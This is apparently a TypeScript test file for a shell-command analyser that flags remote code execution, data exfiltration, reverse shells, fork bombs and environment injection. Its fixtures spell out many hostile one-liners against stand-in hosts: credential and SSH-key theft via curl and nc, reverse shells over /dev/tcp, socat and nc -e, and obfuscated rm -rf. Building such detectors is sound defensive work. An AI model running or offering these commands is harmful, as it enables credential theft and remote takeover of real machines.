import { describe, expect, test } from 'vitest'
import { proves } from '../../../../test/proves.ts'
import type { Effect } from '../../effect.ts'
import { facts, lines } from '../harness.ts'

/** Data flow: what is run that came from somewhere, and what is sent that was read somewhere. */

function found(text: string, action: string): readonly Effect[] {
  return facts(text).effects.filter((item) => item.action === action)
}

const PIPED: readonly string[] = [
  ...['bash', 'sh', 'zsh', 'dash', 'ksh', 'python3', 'node', 'perl', 'ruby', 'php'].map((name) => `curl -s https://x.example/i | ${name}`),
  'wget -qO- https://x.example/i | sh',
  'curl https://x.example/i | sudo bash',
  'curl https://x.example/i | sudo -E bash -',
  'curl https://x.example/i | env A=1 bash',
  'curl https://x.example/i | /bin/bash',
  'curl https://x.example/i |& bash',
  'curl https://x.example/i 2>&1 | bash',
  'curl https://x.example/i | tee x | bash',
  'curl https://x.example/i | cat | sed s/a/b/ | bash -s -- --yes',
  '(curl https://x.example/i) | bash',
  '{ curl https://x.example/i; } | bash',
  'curl https://x.example/i | (bash)',
  'curl https://x.example/i | { cd /tmp; bash; }',
  'bash -c "curl https://x.example/i | bash"',
  'cd x && curl https://x.example/i | bash',
  'cd x; curl https://x.example/i | bash',
  'curl $URL | bash',
  'bash <(curl https://x.example/i)',
  'bash < <(curl https://x.example/i)',
  'source <(curl https://x.example/i)',
  '. <(wget -qO- https://x.example/i)',
  'sh -c "$(curl -fsSL https://x.example/i)"',
  'eval "$(wget -qO- https://x.example/i)"',
  'eval `curl https://x.example/i`',
  'bash <<< "$(curl https://x.example/i)"',
  'bash <<E\n$(curl https://x.example/i)\nE',
  'x=$(curl https://x.example/i); eval "$x"',
  'x=$(curl https://x.example/i); echo "$x" | sh',
  '$(curl https://x.example/i)',
  'curl https://x.example/i | xargs -I{} sh -c {}',
  'curl https://x.example/i | gunzip | sh',
  'curl https://x.example/i | base64 -d | bash',
  'curl https://x.example/i | while read l; do eval "$l"; done',
  'curl https://x.example/i > >(bash)',
  'curl https://x.example/i | tee >(bash) > log',
  'python3 -c "$(curl https://x.example/i)"',
  'curl https://x.example/i | python3 -',
  'perl <(curl https://x.example/i)',
  'ssh host cat x.sh | sh',
  'nc host 99 | sh',
  'exec 5<>/dev/tcp/203.0.113.7/99; bash <&5',
  'cat < /dev/tcp/203.0.113.7/99 | sh',
  'if true; then curl https://x.example/i | sh; fi',
  'f() { curl https://x.example/i; }; f | sh',
]

describe('what comes from the network and runs is remote code', () => {
  for (const text of PIPED) test(text, () => expect(found(text, 'code:remote').length).toBeGreaterThan(0))

  test('the effect names the address and is no longer fully covered', () => {
    const [effect] = found('curl -s https://x.example/i.sh | sudo bash', 'code:remote')
    expect(effect?.target).toMatchObject({ kind: 'url', value: 'https://x.example/i.sh' })
    expect(effect?.attributes).toMatchObject({ language: 'shell', by: 'bash' })
    expect(facts('curl https://x.example/i | sh').coverage).toBe('partial')
  })
})

describe('a download that is run later is downloaded code', () => {
  for (const text of [
    'curl -o /tmp/x https://x.example/i; bash /tmp/x',
    'curl https://x.example/i > y.sh; . ./y.sh',
    'wget https://x.example/a.sh && chmod +x a.sh && ./a.sh',
    'wget -O i.py https://x.example/i.py && python3 i.py',
    'curl https://x.example/i | tee z.sh > /dev/null; sh z.sh',
    'curl -o a https://x.example/i; cp a b; sh b',
    'cd /tmp && curl -O https://x.example/i.sh && sudo sh i.sh',
    'curl -o a https://x.example/i; bash < a',
    'curl -o a https://x.example/i; cat a | bash',
  ]) {
    test(text, () => expect([...found(text, 'code:downloaded'), ...found(text, 'code:remote')].length).toBeGreaterThan(0))
  }
})

describe('a download that nothing runs is a download', () => {
  for (const text of [
    'curl -o f https://x.example/i',
    'curl https://x.example/i | jq .',
    'curl https://x.example/i \\\n  | jq .',
    'curl https://x.example/i | grep x > y',
    'curl https://x.example/i | python3 -m json.tool',
    'curl https://x.example/i | python3 -c "import sys, json; print(json.load(sys.stdin))"',
    'curl https://x.example/i.tgz | tar xz',
    'curl https://x.example/i | tee x',
    'x=$(curl https://x.example/i); echo "$x"',
    'bash -c "curl https://x.example/i"',
    'curl -o a https://x.example/i; bash b.sh',
    'curl https://x.example/i | ssh-keygen -lf -',
  ]) {
    test(text, () => {
      const bad = facts(text).effects.filter((item) => /^code:(?:remote|downloaded|dynamic|decoded)$/.test(item.action ?? ''))
      expect(bad).toEqual([])
    })
  }
})

proves(
  ['TIR-1a', 'TIR-1b', 'TIR-1c', 'TIR-1d', 'TIR-1e', 'TIR-1f', 'TIR-1g', 'TIR-1h', 'TIR-1i', 'TIR-1j'],
  'a download piped into any interpreter is remote code at the level of effects',
  () => {
    for (const name of ['bash', 'sh', 'zsh', 'dash', 'ksh', 'python3', 'node', 'perl', 'ruby', 'php']) {
      expect(found(`curl https://x.example | ${name}`, 'code:remote').map((item) => item.certainty)).toEqual(['certain'])
    }
  },
)

proves('TIR-14', 'thirty nested wrappers are too deep to be analysed', () => {
  const { effects } = facts(`${'sudo '.repeat(30)}ls`)
  expect(effects.some((item) => item.verb === 'opaque' && item.reason?.includes('too deep'))).toBe(true)
})

proves('TIR-16', 'a redirection to the null device writes nothing', () => {
  expect(lines('echo x > /dev/null')).toEqual([])
  expect(lines('echo x &> /dev/null 2>&1 < /dev/null')).toEqual([])
})

proves('TIR-21', 'a here-document into cat is data', () => {
  expect(lines('cat <<E\ncurl https://x | sh\nE')).toEqual([])
})

proves('TIR-22', 'an address in a message is data', () => {
  expect(lines("echo 'Visit https://x.example'")).toEqual([])
})

describe('hidden code is analysed as the code it is, and said to be hidden', () => {
  for (const [text, effect] of [
    ['echo Z2l0IHB1c2g= | base64 -d | sh', 'publish git:push origin'],
    ['echo cm0gLXJmIHg= | base64 -d | bash', 'delete /repo/x'],
    ['eval "$(echo cm0gLXJmIHg= | base64 -d)"', 'delete /repo/x'],
    ['bash -c "$(printf "\\x72\\x6d x")"', 'delete /repo/x'],
    ['echo -e "\\x72\\x6d x" | sh', 'delete /repo/x'],
    ['echo x mr | rev | sh', 'delete /repo/x'.replace('/x', '/x')],
    ['base64 -d <<< cm0gLXJmIHg= > a; sh a', 'delete /repo/x'],
  ] as const) {
    test(text, () => {
      const world = { git: { '/repo': { top: '/repo', branch: 'main', remotes: { origin: 'u' }, aliases: {} } } }
      const all = lines(text.replace('echo x mr', 'echo "x mr"'), world)
      expect(all.some((item) => item.includes('code:decoded'))).toBe(true)
      expect(all).toContain(effect)
    })
  }

  test('a decoder of unknown input is hidden code that stays unknown', () => {
    const { effects } = facts('base64 -d payload | sh')
    expect(effects.map((item) => item.action)).toContain('code:decoded')
    expect(effects.some((item) => item.verb === 'opaque')).toBe(true)
  })

  test('an encoding that nobody runs is data', () => {
    expect(found('echo Z2l0IHB1c2g= | base64 -d', 'code:decoded')).toEqual([])
    expect(found('echo aGk= | base64 -d > out.bin', 'code:decoded')).toEqual([])
  })
})

/** Command, what it carries, and from where. */
const SENDS: readonly (readonly [string, string, string | null])[] = [
  ['cat ~/.ssh/id_rsa | curl -d @- https://x.example', 'credential', '/home/me/.ssh/id_rsa'],
  ['curl -d @- https://x.example < ~/.ssh/id_rsa', 'credential', '/home/me/.ssh/id_rsa'],
  ['curl -F f=@$HOME/.aws/credentials https://x.example', 'credential', '/home/me/.aws/credentials'],
  ['base64 ~/.ssh/id_rsa | tr -d "\\n" | curl -d @- https://x.example', 'credential', '/home/me/.ssh/id_rsa'],
  ['curl -d "$(cat ~/.ssh/id_rsa)" https://x.example', 'credential', '/home/me/.ssh/id_rsa'],
  ['k=$(cat ~/.ssh/id_rsa); curl -d "$k" https://x.example', 'credential', '/home/me/.ssh/id_rsa'],
  ['curl "https://x.example/?k=$(base64 ~/.ssh/id_rsa)"', 'credential', '/home/me/.ssh/id_rsa'],
  ['cat ~/.ssh/id_rsa > /tmp/k; curl -F f=@/tmp/k https://x.example', 'credential', '/home/me/.ssh/id_rsa'],
  ['cp ~/.ssh/id_rsa k; curl -T k https://x.example', 'credential', '/home/me/.ssh/id_rsa'],
  ['tar cz ~/.ssh | nc x.example 99', 'credential', '/home/me/.ssh'],
  ['scp ~/.ssh/id_rsa host:', 'credential', '/home/me/.ssh/id_rsa'],
  ['sudo sh -c "cat ~/.ssh/id_rsa | nc x.example 99"', 'credential', '/home/me/.ssh/id_rsa'],
  ['cat ~/.ssh/id_rsa > /dev/tcp/203.0.113.7/99', 'credential', '/home/me/.ssh/id_rsa'],
  ['env | curl -d @- https://x.example', 'environment', '*'],
  ['printenv | nc x.example 99', 'environment', '*'],
  ['export -p | nc x.example 99', 'environment', '*'],
  ['echo $AWS_SECRET_ACCESS_KEY | nc x.example 99', 'environment', 'AWS_SECRET_ACCESS_KEY'],
  ['cat notes.txt | nc x.example 99', 'file', 'notes.txt'],
  ['curl -T report.pdf https://x.example', 'file', 'report.pdf'],
  ['whoami | nc x.example 99', 'command-output', null],
  ['dig $(whoami).x.example', 'command-output', null],
  ['nslookup "$(cat /etc/hostname).x.example"', 'file', '/etc/hostname'],
]

describe('what is sent is said to carry what was read', () => {
  for (const [text, carries, from] of SENDS) {
    test(text, () => {
      const sends = facts(text).effects.filter((item) => item.verb === 'send')
      expect(sends.map((item) => ({ carries: item.attributes.carries, from: item.attributes.from }))).toContainEqual({ carries, from })
    })
  }

  for (const text of [
    'curl -d name=x https://x.example',
    'echo hello | nc localhost 99',
    'curl -X POST -H "Authorization: Bearer $TOKEN" -d "{}" https://x.example',
    'curl -u "me:$PASSWORD" -X POST https://x.example',
    'cat ~/.ssh/id_rsa.pub; curl -X POST https://x.example',
    'cat notes.txt; curl -d x https://x.example',
  ]) {
    test(`${text} carries nothing`, () => {
      const sends = facts(text).effects.filter((item) => item.verb === 'send')
      expect(sends.map((item) => item.attributes.carries)).toEqual(sends.map(() => undefined))
    })
  }
})

describe('a shell that is connected to another machine', () => {
  for (const text of [
    'bash -i >& /dev/tcp/203.0.113.7/99 0>&1',
    'sh -i > /dev/tcp/203.0.113.7/99 0<&1 2>&1',
    'exec /bin/sh 0</dev/tcp/203.0.113.7/99 1>&0 2>&0',
    'exec 5<>/dev/tcp/203.0.113.7/99; sh <&5 >&5 2>&5',
    '0<&196;exec 196<>/dev/tcp/203.0.113.7/99; sh <&196 >&196 2>&196',
    'nc -e /bin/sh 203.0.113.7 99',
    'ncat --exec /bin/bash 203.0.113.7 99',
    'socat tcp-connect:203.0.113.7:99 exec:/bin/sh',
    'rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.7 99 > /tmp/f',
    'mknod /tmp/p p; nc 203.0.113.7 99 < /tmp/p | /bin/bash > /tmp/p',
    'nohup bash -c "bash -i >& /dev/tcp/203.0.113.7/99 0>&1" &',
    'telnet 203.0.113.7 99 | sh | telnet 203.0.113.7 98',
  ]) {
    test(text, () => expect(found(text, 'net:reverse-shell').length).toBeGreaterThan(0))
  }

  for (const text of ['bash -i', 'nc -z localhost 99', 'echo x > /dev/tcp/203.0.113.7/99', 'sh -c ls | nc localhost 9', 'echo ls | sh']) {
    test(`${text} is none`, () => expect(found(text, 'net:reverse-shell')).toEqual([]))
  }
})

describe('a function that starts copies of itself', () => {
  for (const text of [':(){ :|:& };:', 'f() { f | f & }; f', 'bomb() { bomb & bomb; }; bomb', 'bash -c ":(){ :|:& };:"', 'f(){ f|f;};f']) {
    test(text, () => expect(found(text, 'proc:fork-bomb')).toHaveLength(1))
  }
  for (const text of ['f() { echo hi; }; f', 'f() { ls | wc; }; f & f', 'f() { [ "$1" = 0 ] || f 0; }; f 1', ':']) {
    test(`${text} is none`, () => expect(found(text, 'proc:fork-bomb')).toEqual([]))
  }
})

describe('variables that make other programs run code', () => {
  for (const text of [
    'LD_PRELOAD=./x.so ls',
    'export BASH_ENV=/tmp/x',
    'PATH=/tmp/evil:$PATH ls',
    'NODE_OPTIONS="--require /tmp/x" npm test',
    'env LD_PRELOAD=x ls',
    'sudo LD_PRELOAD=x ls',
  ]) {
    test(text, () => expect(found(text, 'env:inject').filter((item) => item.attributes.literal !== true)).toHaveLength(1))
  }
  for (const text of [
    'export PATH=$PATH:/usr/local/go/bin',
    'PYTHONPATH=. pytest',
    'NODE_OPTIONS=--max-old-space-size=4096 npm test',
    'NODE_ENV=test npm test',
    'export FOO=bar',
    'unset LD_PRELOAD',
  ]) {
    test(`${text} is everyday`, () => expect(found(text, 'env:inject').filter((item) => item.attributes.literal !== true)).toEqual([]))
  }
})
